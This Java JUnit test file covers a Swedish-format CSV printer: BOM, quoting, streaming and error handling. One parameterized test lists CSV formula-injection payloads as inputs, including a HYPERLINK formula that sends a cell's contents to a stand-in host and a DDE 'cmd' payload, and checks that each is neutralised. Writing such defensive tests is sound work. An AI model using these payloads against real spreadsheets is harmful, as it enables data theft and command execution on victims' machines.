package se.handslag.core.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import se.handslag.core.document.Table.Column;

class CsvPrinterTest {
    private static final List<Column> COLUMNS = List.of(Column.ofWords("Beslut"), Column.ofFigures("Antal"));

    @Test
    void opensInASwedishSpreadsheet() {
        byte[] file = CsvPrinter.print(
                new Table("Beslut", COLUMNS, List.of(List.of("Bifall åäö", "12"), List.of("Avslag; \"helt\"", "3,5"))));

        assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, StandardCharsets.UTF_8))
                .isEqualTo("\uFEFFBeslut;Antal\r\nBifall åäö;12\r\n\"Avslag; \"\"helt\"\"\";3,5\r\n");
    }

    @Test
    void keepsLineBreaksInsideACell() {
        assertThat(lines("rad ett\nrad två")).isEqualTo("\"rad ett\nrad två\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://ond.example/?\"&A1)",
                "+46 18 727 00 00",
                "-2+3+cmd|' /C calc'!A0",
                "--5",
                "-",
                "@SUM(1+1)",
                "\t=1+1",
                "\r=1+1",
                "  =1+1",
                "＝1+1",
            })
    void neverLetsASpreadsheetRunWhatSomeoneWrote(String words) {
        assertThat(lines(words).replaceFirst("^\"", "")).startsWith("'");
    }

    @Test
    void noHeadingIsRunEither() {
        byte[] file = CsvPrinter.print(new Table("Beslut", List.of(Column.ofWords("=1+1")), List.of()));

        assertThat(new String(file, StandardCharsets.UTF_8)).isEqualTo("\uFEFF'=1+1\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "-12,5", "-0.25", "0", "12", "2026-11-22", "19121212-1212", "a=b", ""})
    void leavesNumbersDaysAndOrdinaryWordsAsTheyAre(String words) {
        assertThat(lines(words)).isEqualTo(words);
    }

    @Test
    void printsRowsAsTheyCome() {
        Counting to = new Counting();
        Stream<List<String>> rows = IntStream.range(0, 200_000)
                .peek(row -> to.ahead = Math.max(to.ahead, row - to.lines))
                .mapToObj(row -> List.of("beslut " + row, Integer.toString(row)));

        CsvPrinter.print(COLUMNS, rows, to);

        assertThat(to.lines).isEqualTo(200_001);
        assertThat(to.ahead).isLessThan(5_000);
    }

    @Test
    void doesNotPrintARowThatIsShorterThanTheOthersNorTellWhatIsInIt() {
        assertThatThrownBy(() -> CsvPrinter.print(COLUMNS, Stream.of(List.of("hemligt")), new ByteArrayOutputStream()))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageNotContaining("hemligt");
    }

    @Test
    void saysWhenItCannotBeWritten() {
        OutputStream full = new OutputStream() {
            @Override
            public void write(int one) throws IOException {
                throw new IOException("full");
            }
        };

        assertThatThrownBy(() -> CsvPrinter.print(COLUMNS, Stream.of(List.of("a", "1")), full))
                .isInstanceOf(UncheckedIOException.class);
    }

    /** The line of a single cell, as the file has it. */
    private static String lines(String words) {
        byte[] file = CsvPrinter.print(new Table("Beslut", COLUMNS, List.of(List.of("x", words))));
        String text = new String(file, StandardCharsets.UTF_8);
        return text.substring("\uFEFFBeslut;Antal\r\nx;".length(), text.length() - 2);
    }

    /** Counts what has arrived, and how many rows were made that had not. */
    private static final class Counting extends OutputStream {
        private int lines;
        private int ahead;

        @Override
        public void write(int one) {
            lines += one == '\n' ? 1 : 0;
        }
    }
}
